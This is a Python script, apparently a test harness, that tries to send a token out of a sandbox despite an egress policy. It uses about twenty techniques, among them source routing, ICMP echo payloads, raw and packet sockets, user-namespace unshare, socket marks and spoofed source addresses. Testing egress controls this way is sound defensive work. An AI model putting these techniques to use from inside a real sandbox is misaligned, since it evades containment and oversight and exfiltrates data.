#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Ways round an egress policy, as root of a sandbox would try them.

egress_attacks.py NAME ADDRESS PORT TOKEN [THROUGH] sends TOKEN there in that way
and prints "sent", or "refused: why". Whether it arrives is the server's to say.
THROUGH is an address to be routed by. Standard library only; read from standard
input by the python3 of a sandbox.
"""
import ctypes
import socket
import struct
import sys

CLONE_NEWUSER, CLONE_NEWNET = 0x10000000, 0x40000000
IPOPT_LSRR, IPV6_RTHDR, SEGMENT_ROUTING, IP_NODEFRAG = 131, 57, 4, 22


def family_of(address):
    return socket.AF_INET6 if ':' in address else socket.AF_INET


def udp(address):
    return socket.socket(family_of(address), socket.SOCK_DGRAM)


def plain(to, port, token):
    udp(to).sendto(token, (to, port))


def connected(to, port, token):
    client = udp(to)
    client.connect((to, port))
    client.send(token)


def mapped(to, port, token):
    udp('::').sendto(token, ('::ffff:' + to, port))


def large(to, port, token):
    """In pieces: the first has the port and the token, the others neither."""
    udp(to).sendto(token + bytes(4000), (to, port))


def dontroute(to, port, token):
    client = udp(to)
    client.setsockopt(socket.SOL_SOCKET, socket.SO_DONTROUTE, 1)
    client.sendto(token, (to, port))


def device(to, port, token):
    client = udp(to)
    client.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b'eth0')
    client.sendto(token, (to, port))


def fastopen(to, port, token):
    """Data in the first packet."""
    client = socket.socket(family_of(to), socket.SOCK_STREAM)
    client.sendto(token, socket.MSG_FASTOPEN, (to, port))


def source_route(to, port, token, through):
    client = udp(to)
    if family_of(to) == socket.AF_INET:
        option = struct.pack('BBB', IPOPT_LSRR, 11, 4) + \
            socket.inet_aton(through) + socket.inet_aton(to) + b'\0'
        client.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, option)
    else:
        segments = [socket.inet_pton(socket.AF_INET6, a)
            for a in (to, through)]
        header = struct.pack('BBBBBBH', 0, 4, SEGMENT_ROUTING, 1, 1, 0, 0)
        client.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR,
            header + b''.join(segments))
    client.sendto(token, (to, port))


def echo(to, port, token):
    """In the payload of an echo request; "sent" once it is answered."""
    is_ipv4 = family_of(to) == socket.AF_INET
    client = socket.socket(family_of(to), socket.SOCK_DGRAM,
        socket.IPPROTO_ICMP if is_ipv4 else socket.IPPROTO_ICMPV6)
    client.settimeout(30)
    client.sendto(struct.pack('!BBHHH', 8 if is_ipv4 else 128, 0, 0, 0, 1) +
        token, (to, 0))
    if token not in client.recv(4096):
        raise OSError(0, 'another answer')


def raw(to, port, token):
    client = socket.socket(family_of(to), socket.SOCK_RAW,
        socket.IPPROTO_UDP)
    client.setsockopt(socket.IPPROTO_IP, IP_NODEFRAG, 1)
    client.sendto(struct.pack('!HHHH', 40000, port, 8 + len(token), 0) +
        token, (to, 0))


def packet(to, port, token):
    socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0x0300)


def nested(to, port, token):
    unshare(CLONE_NEWUSER | CLONE_NEWNET)
    plain(to, port, token)


def unshare(flags):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(flags) < 0:
        raise OSError(ctypes.get_errno(), 'unshare')


def owned_raw(to, port, token):
    """As root of a user namespace of one's own, in the sandbox's network."""
    unshare(CLONE_NEWUSER)
    raw(to, port, token)


def owned_packet(to, port, token):
    unshare(CLONE_NEWUSER)
    packet(to, port, token)


def owned_mark(to, port, token):
    """A mark, such as sockets have that the host has looked at."""
    unshare(CLONE_NEWUSER)
    client = udp(to)
    client.setsockopt(socket.SOL_SOCKET, 36, 1)  # SO_MARK
    client.sendto(token, (to, port))


def source(to, port, token):
    """As if from another address, which nobody has there."""
    client = udp(to)
    client.setsockopt(socket.IPPROTO_IP, 15, 1)  # IP_FREEBIND
    client.bind(('198.51.100.77' if '.' in to else '2001:db8::77', 0))
    client.sendto(token, (to, port))


name, address, number, word = sys.argv[1:5]
try:
    globals()[name](address, int(number), word.encode(), *sys.argv[5:])
    print('sent')
except OSError as error:
    print('refused:', error.strerror or error)
